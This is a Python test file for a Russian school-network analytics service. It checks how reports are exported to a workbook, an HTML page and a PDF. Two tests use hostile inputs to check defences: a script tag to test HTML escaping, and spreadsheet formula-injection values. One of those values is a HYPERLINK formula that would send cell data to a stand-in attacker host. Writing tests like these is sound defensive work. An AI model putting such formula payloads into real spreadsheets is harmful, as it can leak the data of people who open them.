"""The analysis as files: the workbook, the HTML document and the PDF, from an Analysis made by
hand (no database)."""

from __future__ import annotations

import base64
import html
import io
import re
import uuid
import zipfile
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from services.analytics import methodology
from services.analytics.analysis import AnalysisRequestError
from services.analytics.analysis_model import (
    Analysis,
    AnalysisRules,
    AppliedTarget,
    Better,
    IndicatorDefinition,
    IndicatorValue,
    Period,
    ResultComparison,
    SchoolAttention,
    Scope,
    ScopeKind,
    Status,
    Trend,
    YearKind,
)
from services.analytics.indicators import DEFINITIONS
from services.analytics.reports import (
    file_name,
    format_number,
    html_document,
    pdf_document,
    period_short,
    plural,
    requested_period,
    requested_scope,
    summary,
    workbook,
)

pytestmark = pytest.mark.unit

NETWORK_ID = uuid.UUID("5b0c1f7e-8d1a-4c59-9a40-1f1e2d3c4b5a")


def indicator(
    id: str,
    title: str,
    unit: str,
    value: float | None,
    previous: float | None,
    status: Status,
    trend: Trend,
    *,
    target: float | None = None,
    suggestion: float | None = None,
    schools: int = 0,
    **more: object,
) -> IndicatorValue:
    definition = IndicatorDefinition(
        id=id,
        title=title,
        definition=f"Как считается «{title.lower()}»: по событиям сети за период.",
        unit=unit,
        better=Better.higher,
        suggestion=suggestion,
    )
    return IndicatorValue(
        definition=definition,
        value=value,
        previous=previous,
        status=status,
        trend=trend,
        schools=schools,
        target=None if target is None else network_target(target),
        **more,  # type: ignore[arg-type]
    )


def network_target(value: float) -> AppliedTarget:
    """A target the network's coordinator set for 2025."""
    return AppliedTarget(
        value=value,
        scope_kind=ScopeKind.network,
        scope_key=str(NETWORK_ID),
        scope_title="Сеть школ Гусевского округа «Вместе»",
        year_kind=YearKind.calendar,
        year=2025,
        set_by_role="municipal_coordinator",
        set_at=datetime(2025, 1, 20, 8, 0, tzinfo=UTC),
    )


def sample_analysis() -> Analysis:
    """A network's year: indicators with and without data, one worsening into the negative, one
    with a breakdown, two schools needing attention."""
    return Analysis(
        scope=Scope(ScopeKind.network, str(NETWORK_ID)),
        scope_title="Сеть школ Гусевского округа «Вместе»",
        period=Period.year(2025),
        previous_period=Period.year(2024),
        generated_at=datetime(2026, 1, 15, 9, 30, tzinfo=UTC),
        indicators=[
            indicator(
                "coverage",
                "Охват поддерживаемых школ сетевыми мероприятиями",
                "%",
                83.3,
                60.0,
                Status.attention,
                Trend.up,
                target=90.0,
                schools=12,
                numerator=10,
                denominator=12,
            ),
            indicator(
                "activities_per_school",
                "Сетевые мероприятия на одну сопровождаемую школу",
                "на школу",
                2.5,
                1.75,
                Status.good,
                Trend.up,
                schools=12,
                breakdown={
                    "type:seminar": 1.5,
                    "type:open_lesson": 0.75,
                    "type:hackathon": 0.25,
                    "process:training": 2.0,
                    "process:experience_exchange": 0.5,
                },
            ),
            indicator(
                "educators",
                "Доля педагогов поддерживаемых школ, участвовавших в мероприятиях",
                "%",
                41.5,
                45.25,
                Status.bad,
                Trend.down,
                target=50.0,
                schools=12,
            ),
            indicator(
                "hours",
                "Часы участия на одного педагога",
                "ч",
                1234.5,
                980.0,
                Status.good,
                Trend.up,
                schools=12,
            ),
            indicator(
                "results",
                "Динамика результатов оценочных процедур относительно базового уровня",
                "ст. откл.",
                -0.35,
                0.08,
                Status.bad,
                Trend.down,
                schools=40,
                note="Сопровождаемых школ без сравнимой школы, не вошедших в расчёт: 2.",
                breakdown={
                    "supported_schools": 12.0,
                    "comparison_schools": 28.0,
                    "supported_change": -0.24,
                    "comparison_change": 0.11,
                },
                comparison=ResultComparison(
                    estimate=-0.35,
                    low=-0.62,
                    high=-0.09,
                    supported_schools=12,
                    comparison_schools=28,
                    significant=True,
                ),
            ),
            indicator(
                "mobility_hours",
                "Часы академической мобильности",
                "ч",
                156.0,
                None,
                Status.attention,
                Trend.unknown,
                schools=4,
                breakdown={"students": 120.0, "teachers": 36.0},
            ),
            indicator(
                "reporting",
                "Единство оценки: доля участников, представивших сведения",
                "%",
                None,
                None,
                Status.no_data,
                Trend.unknown,
                suggestion=100.0,
                note="нет данных: в охвате нет школ, состоявших в сети",
            ),
        ],
        schools_needing_attention=[
            SchoolAttention(
                uuid.UUID("0f6b8a52-2f57-4a0e-9d47-4a1d6f0e7c11"),
                "МБОУ «Средняя школа № 3» г. Гусева",
                ["Нет участия в сетевых мероприятиях 94 дня", "Просрочен пункт плана «Стажировка»"],
            ),
            SchoolAttention(
                uuid.UUID("a3d9c2e1-7b6f-4e58-8c1a-2b3c4d5e6f70"),
                "МАОУ «Лицей № 10»",
                ["Дефицит «Формирующее оценивание» без обучения 120 дней"],
            ),
        ],
    )


ANALYSIS = sample_analysis()


def titles(analysis: Analysis) -> list[str]:
    return [item.definition.title for item in analysis.indicators]


def test_numbers_read_as_a_russian_reader_writes_them() -> None:
    assert format_number(1234.5, "ч") == "1\u00a0234,5\u00a0ч"
    assert format_number(45.26, "%") == "45,3\u00a0%"
    assert format_number(12.0) == "12"
    assert format_number(-1.5, "балл") == "−1,5\u00a0балл"
    assert format_number(0.456) == "0,46"
    assert format_number(None, "%") == "—"
    assert [plural(n, "школа", "школы", "школ") for n in (1, 3, 5, 11, 21, 112)] == [
        "1 школа",
        "3 школы",
        "5 школ",
        "11 школ",
        "21 школа",
        "112 школ",
    ]


def test_the_summary_counts_statuses_and_names_the_schools() -> None:
    sentences = summary(ANALYSIS)
    assert sentences[0].startswith("Показателей в анализе: 7 (в норме — 2, требуют внимания — 2, отстают — 2")
    assert any("Отстают и ухудшаются" in sentence and "«Часы" not in sentence for sentence in sentences)
    assert sentences[-1].startswith("Требуют внимания 2 школы: МБОУ «Средняя школа № 3» г. Гусева")


INTERVAL = (
    "95 % доверительный интервал: от −0,62 до −0,09 ст. откл. — изменение значимо; в сравнении 12 "
    "сопровождаемых школ и 28 сравнимых школ."
)


def test_the_interval_and_the_schools_of_a_comparison_are_told() -> None:
    from services.analytics.reports import comparison_label

    results = ANALYSIS.indicators[4]
    assert comparison_label(results) == INTERVAL
    assert comparison_label(ANALYSIS.indicators[0]) is None
    few = ResultComparison(None, None, None, 1, 3, False)
    assert comparison_label(
        indicator("r", "Р", "ст. откл.", None, None, Status.no_data, Trend.unknown, comparison=few)
    ) == ("Интервала нет: в сравнении 1 сопровождаемая школа и 3 сравнимые школы.")


def test_the_workbook_has_the_indicators_a_chart_the_schools_and_the_breakdowns() -> None:
    content = workbook(ANALYSIS)
    book = load_workbook(io.BytesIO(content))
    assert book.sheetnames == [
        "Показатели",
        "Диаграммы",
        "Школы, требующие внимания",
        "Разрезы",
        "Сведения",
        "Методика",
    ]

    sheet = book["Показатели"]
    header = [cell.value for cell in sheet[1]]
    assert header[:9] == [
        "№",
        "Показатель",
        "Ед. изм.",
        "Предыдущий период (2024)",
        "Значение (2025)",
        "Цель",
        "Динамика",
        "Статус",
        "Школ в расчёте",
    ]
    assert sheet.freeze_panes == "A2"
    rows = [[cell.value for cell in row] for row in sheet.iter_rows(min_row=2)]
    assert [row[1] for row in rows] == titles(ANALYSIS)
    coverage, _, _, hours, _, _, reporting = rows
    assert coverage[2:9] == ["%", 60, 83.3, 90, "↑ рост", "Требует внимания", 12]
    assert coverage[9:11] == [10, 12]
    assert coverage[11].startswith("Как считается «охват")
    assert hours[3:5] == [980, 1234.5]
    assert reporting[3:5] == [None, "нет данных"] and reporting[7] == "Нет данных"
    assert reporting[12] == "нет данных: в охвате нет школ, состоявших в сети"
    assert header[13] == "Откуда цель"
    assert coverage[13] == (
        "90\u00a0% — цель сети «Сеть школ Гусевского округа «Вместе»» на 2025 год; "
        "установил муниципальный координатор 20.01.2025"
    )
    assert reporting[13] == "цель не установлена; предложение Setka: 100\u00a0% (не цель)"
    assert hours[13] == "цель не установлена"
    assert header[14] == "Доверительный интервал и школы в сравнении"
    assert rows[4][14] == INTERVAL
    assert coverage[14] is None  # no comparison of results
    assert sheet["E5"].number_format == "#,##0.0" and sheet["F2"].number_format == "#,##0.0"
    assert sheet["H4"].fill.fgColor.rgb.endswith("FDE3E3")  # the worsening one in red
    assert sheet.column_dimensions["B"].width == 46

    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        charts = [name for name in archive.namelist() if re.fullmatch(r"xl/charts/chart\d+\.xml", name)]
        first_chart = archive.read("xl/charts/chart1.xml").decode()
    assert len(charts) == 10  # six indicators with data; four breakdown groups of two parts or more
    assert "'Показатели'!$D$2:$F$2" in first_chart and "<barChart>" in first_chart
    assert book["Диаграммы"]._charts  # openpyxl reads them back too

    schools = [[cell.value for cell in row] for row in book["Школы, требующие внимания"].iter_rows(min_row=2)]
    assert [row[1] for row in schools] == [school.name for school in ANALYSIS.schools_needing_attention]
    assert schools[0][2] == "Нет участия в сетевых мероприятиях 94 дня\nПросрочен пункт плана «Стажировка»"

    parts = [[cell.value for cell in row] for row in book["Разрезы"].iter_rows(min_row=2)]
    assert [row[1:5] for row in parts] == [
        ["по видам мероприятий", "Семинар", 1.5, "на школу"],
        ["по видам мероприятий", "Открытый урок", 0.75, "на школу"],
        ["по видам мероприятий", "Hackathon", 0.25, "на школу"],  # a kind not known here: as it is
        ["по процессам сетевого взаимодействия", "Обучение", 2, "на школу"],
        ["по процессам сетевого взаимодействия", "Обмен опытом", 0.5, "на школу"],
        ["число школ в сравнении", "Сопровождаемые школы", 12, "школ"],
        ["число школ в сравнении", "Сравнимые школы вне сетей", 28, "школ"],
        ["изменение от базового года", "Сопровождаемые школы", -0.24, "ст. откл."],
        ["изменение от базового года", "Сравнимые школы вне сетей", 0.11, "ст. откл."],
        [None, "Учащиеся", 120, "ч"],
        [None, "Педагоги", 36, "ч"],
    ]
    assert parts[0][0] == "Сетевые мероприятия на одну сопровождаемую школу"

    about = [cell.value for row in book["Сведения"].iter_rows() for cell in row if cell.value]
    assert "Сеть: Сеть школ Гусевского округа «Вместе»" in about
    assert "01.01.2025 – 31.12.2025" in about and "15.01.2026 09:30 (UTC)" in about


def test_the_html_document_reads_in_russian_with_charts_inside() -> None:
    page = html_document(ANALYSIS)
    assert "<title>Анализ эффективности сетевого взаимодействия — Сеть школ Гусевского округа «Вместе»" in (
        page.replace("&#34;", '"').replace("&laquo;", "«")
    )
    assert '<html lang="ru">' in page and "<h1>Анализ эффективности сетевого взаимодействия</h1>" in page
    assert "Сеть: Сеть школ Гусевского округа «Вместе»" in page
    assert "01.01.2025 – 31.12.2025" in page and "01.01.2024 – 31.12.2024" in page
    for title in titles(ANALYSIS):
        assert title in page
    assert 'class="status status-bad">Отстаёт</td>' in page
    assert "<td>ч</td>" in page and '<td class="number value">1\u00a0234,5</td>' in page
    assert "МБОУ «Средняя школа № 3» г. Гусева" in page and "Просрочен пункт плана «Стажировка»" in page
    assert "Методика расчёта" in page and "Как считается «охват" in page
    assert html.escape(INTERVAL, quote=True) in page or INTERVAL in html.unescape(page)
    images = re.findall(r'src="data:image/svg\+xml;base64,([A-Za-z0-9+/=]+)"', page)
    assert len(images) == 5  # the indicators (one figure for six) and four breakdown groups
    assert "Сетевые мероприятия на одну сопровождаемую школу — по видам мероприятий" in page
    svg = base64.b64decode(images[0]).decode()
    assert svg.lstrip().startswith("<?xml") and "<svg" in svg
    assert "http://" not in page.replace("http://www.w3.org", "")  # nothing fetched from elsewhere


def test_the_html_document_escapes_names() -> None:
    analysis = sample_analysis()
    analysis.scope_title = "Сеть <script>alert(1)</script>"
    assert "<script>" not in html_document(analysis)


def test_the_pdf_has_the_cyrillic_titles_as_text() -> None:
    content = pdf_document(ANALYSIS)
    assert content.startswith(b"%PDF")
    reader = PdfReader(io.BytesIO(content))
    text = " ".join(page.extract_text() for page in reader.pages)
    flat = re.sub(r"\s+", " ", text)
    assert "Анализ эффективности сетевого взаимодействия" in flat
    for title in titles(ANALYSIS):
        assert title in flat, title
    assert "МБОУ «Средняя школа № 3» г. Гусева" in flat and "Методика расчёта" in flat
    assert "доверительный интервал: от −0,62 до −0,09 ст. откл. — изменение значимо" in flat.replace(
        "\u00a0", " "
    )
    assert "в сравнении 12 сопровождаемых школ и 28 сравнимых школ" in flat
    images = [image for page in reader.pages for image in page.images]
    assert len(images) == 5
    assert reader.metadata is not None and reader.metadata.title.startswith("Анализ эффективности")


def traced_analysis() -> Analysis:
    """An analysis of the real indicators (their definitions as the service has them)."""
    analysis = sample_analysis()
    analysis.indicators = [
        IndicatorValue(definition=definition, value=None, previous=None)
        for definition in DEFINITIONS.values()
    ]
    analysis.rules = AnalysisRules(follow_up_days=60)
    return analysis


def test_every_report_has_the_methodology_annex_from_the_definitions() -> None:
    """The annex quotes each indicator's expected result with its regulation, its formula, its
    sources and when its data is due, the thresholds as the analysis was computed (N days) and
    the visibility policy and limits — the same text as docs/methodology.md, not a second copy."""
    analysis = traced_analysis()
    coverage = DEFINITIONS["coverage"]
    expected = [
        coverage.expected_result,
        coverage.formula,
        DEFINITIONS["deficits_addressed"].regulation,
        "Срок проработки дефицита — 60 дней",
        "Кто что видит",
        "Чего анализ не говорит",
        "Исключённые показатели",
        "ВПР — результаты года готовы к концу мая",
    ]
    book = load_workbook(io.BytesIO(workbook(analysis)))
    cells = " ".join(str(cell.value) for row in book["Методика"].iter_rows() for cell in row if cell.value)
    page = html_document(analysis).replace("&#34;", '"').replace("&laquo;", "«").replace("&raquo;", "»")
    pdf = PdfReader(io.BytesIO(pdf_document(analysis)))
    flat = re.sub(r"\s+", " ", " ".join(each.extract_text() for each in pdf.pages))
    for text in expected:
        assert text in cells, text
        assert text in page, text
        assert re.sub(r"\s+", " ", text).replace("«", "").replace("»", "")[:60] in flat.replace(
            "«", ""
        ).replace("»", ""), text
    assert "Приложение. Методика расчёта" in page and "Приложение. Методика расчёта" in flat


def test_the_annex_says_where_each_target_came_from_and_labels_the_suggestions() -> None:
    """The annex of a report names, for each indicator, the target the analysis judged it against
    and whose it is; where nobody set one, Setka's number is labelled a suggestion, not a target."""
    analysis = traced_analysis()
    coverage = next(value for value in analysis.indicators if value.definition.id == "coverage")
    coverage.target = network_target(85.0)
    source = (
        "85\u00a0% — цель сети «Сеть школ Гусевского округа «Вместе»» на 2025 год; "
        "установил муниципальный координатор 20.01.2025"
    )
    suggested = "цель не установлена; предложение Setka: 50\u00a0% (не цель)"  # educator engagement
    book = load_workbook(io.BytesIO(workbook(analysis)))
    cells = " ".join(str(cell.value) for row in book["Методика"].iter_rows() for cell in row if cell.value)
    page = html.unescape(html_document(analysis))
    for text in (source, suggested, "Цели и предложения Setka", "Нет данных и число школ"):
        assert text in cells, text
        assert text in page, text
    assert "Предложение Setka" not in cells  # in a report, the target's source says it


def test_the_methodology_document_is_generated_from_the_definitions() -> None:
    """docs/methodology.md is what ``python -m services.analytics.methodology`` writes: regenerate
    it when a definition changes."""
    committed = (Path(__file__).resolve().parents[2] / "docs" / "methodology.md").read_text(encoding="utf-8")
    assert committed == methodology.document()
    for definition in DEFINITIONS.values():
        assert definition.expected_result in committed and definition.formula in committed
    assert "## 4. Цели и предложения Setka" in committed and "«нет данных:»" in committed
    assert "**Предложение Setka.** 90 % — подсказка тем, кто устанавливает цели, не цель" in committed
    method = committed.split("## 6. Сравнение результатов с сопоставимыми школами", 1)[1].split("\n## ")[0]
    for step in ("z-оценку", "до 3 кандидатов", "1000 раз", "меньше 10", "значимого изменения нет"):
        assert step in method, step


def test_an_analysis_without_any_data_still_renders() -> None:
    empty = sample_analysis()
    empty.indicators = [item for item in empty.indicators if item.status == Status.no_data]
    empty.schools_needing_attention = []
    book = load_workbook(io.BytesIO(workbook(empty)))
    assert book["Диаграммы"]["B3"].value == "Ни по одному показателю нет данных для диаграмм."
    page = html_document(empty)
    assert "data:image" not in page and "Школ, требующих особого внимания, не выявлено." in page
    pages = PdfReader(io.BytesIO(pdf_document(empty))).pages
    text = " ".join(each.extract_text() for each in pages)
    assert "нет данных для диаграмм" in text


def test_periods_and_scopes_are_read_from_the_query() -> None:
    """The query's words become numbers and dates here; the analysis' readers judge them."""
    assert requested_period({"year": "2025"}) == Period.year(2025)
    assert requested_period({"year": " 2025", "quarter": "2"}) == Period.quarter(2025, 2)
    assert requested_period({"school_year": "2025"}) == Period.school_year(2025)
    assert requested_period({"from": "2025-09-01", "to": "2026-05-31"}) == Period(
        date(2025, 9, 1), date(2026, 6, 1)
    )
    assert requested_scope({"scope": "region", "id": "39"}) == Scope(ScopeKind.region, "39")
    assert requested_scope({"scope": "network", "id": str(NETWORK_ID).upper()}).key == str(NETWORK_ID)
    wrong_periods = [
        ({"year": "twenty"}, "NUMBER_FORMAT", "year — целое число, например year=2025"),
        ({"year": "2025", "quarter": "IV"}, "NUMBER_FORMAT", "quarter — целое число, например quarter=1"),
        ({"year": "2025", "quarter": "5"}, "QUARTER_OUT_OF_RANGE", "Квартал — 1, 2, 3 или 4"),
        ({"from": "01.02.2025", "to": "2025-03-01"}, "DATE_FORMAT", "from — дата в виде ГГГГ-ММ-ДД"),
        ({"year": "2025", "from": "2025-01-01", "to": "2025-02-01"}, "PERIOD_CONFLICT", "не то и другое"),
        ({"from": "2025-01-01"}, "PERIOD_INCOMPLETE", "нужны обе даты"),
        ({}, "PERIOD_REQUIRED", "Укажите год"),
    ]
    for params, code, message in wrong_periods:
        with pytest.raises(AnalysisRequestError, match=message) as refused:
            requested_period(params)
        assert refused.value.code == code
    wrong_scopes = [
        ({"id": "39"}, "SCOPE_REQUIRED", "Укажите scope: одно из school, network, municipality, region"),
        ({"scope": "network"}, "ID_REQUIRED", "Укажите id"),
        ({"scope": "planet", "id": "1"}, "UNKNOWN_CHOICE", "Неизвестный вид области анализа"),
        ({"scope": "network", "id": "42"}, "INVALID_ID", "не идентификатор \\(network\\)"),
        ({"scope": "region", "id": "Калининград"}, "REGION_CODE_FORMAT", "не код региона"),
    ]
    for params, code, message in wrong_scopes:
        with pytest.raises(AnalysisRequestError, match=message) as refused:
            requested_scope(params)
        assert refused.value.code == code


def test_file_names_carry_the_scope_and_the_period() -> None:
    scope = Scope(ScopeKind.network, str(NETWORK_ID))
    assert file_name(scope, Period.year(2025), "pdf") == f"analysis-network-{NETWORK_ID}-2025.pdf"
    assert file_name(Scope(ScopeKind.region, "39"), Period.quarter(2025, 1), "xlsx") == (
        "analysis-region-39-2025-q1.xlsx"
    )
    custom = Period(date(2025, 9, 1), date(2026, 6, 1))
    assert file_name(scope, custom, "html").endswith("-2025-09-01--2026-05-31.html")
    assert period_short(Period.quarter(2025, 4)) == "IV кв. 2025"
    assert period_short(Period.school_year(2025)) == "2025/26 уч. г."
    assert (
        file_name(Scope(ScopeKind.region, "39"), Period.school_year(2025), "pdf")
        == "analysis-region-39-2025-26.pdf"
    )
    assert period_short(custom) == "01.09.2025–31.05.2026"


def test_a_name_that_looks_like_a_formula_is_shown_as_text_in_the_workbook() -> None:
    hostile = sample_analysis()
    names = ['=HYPERLINK("http://evil.example/?"&A1,"Нажмите")', "=1+2", "@SUM(A1:A9)"]
    hostile.schools_needing_attention = [
        SchoolAttention(uuid.uuid4(), name, ["Нет участия в сетевых мероприятиях 94 дня"]) for name in names
    ]
    book = load_workbook(io.BytesIO(workbook(hostile)))
    sheet = book["Школы, требующие внимания"]
    cells = [row[1] for row in sheet.iter_rows(min_row=2) if row[1].value in names]
    assert [cell.value for cell in cells] == names
    assert all(cell.data_type == "s" for cell in cells)  # text, never a formula Excel would run
